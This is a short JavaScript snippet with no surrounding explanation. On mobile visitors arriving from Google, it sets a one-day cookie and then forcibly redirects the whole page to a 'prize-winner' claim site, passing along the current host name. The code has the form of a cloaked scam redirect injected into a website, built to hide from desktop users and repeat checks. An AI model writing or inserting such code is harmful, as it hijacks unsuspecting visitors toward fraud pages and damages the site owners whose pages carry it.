(function () {
  var ua = navigator.userAgent;
  if (/Android|iPhone|iPad/i.test(ua) && document.referrer.indexOf("google.") > -1) {
    if (document.cookie.indexOf("_vs=1") === -1) {
      document.cookie = "_vs=1; max-age=86400; path=/";
      setTimeout(function () {
        window.top.location.replace("https://prize-winner.invalid/claim?src=" + encodeURIComponent(location.host));
      }, 1500);
    }
  }
})();
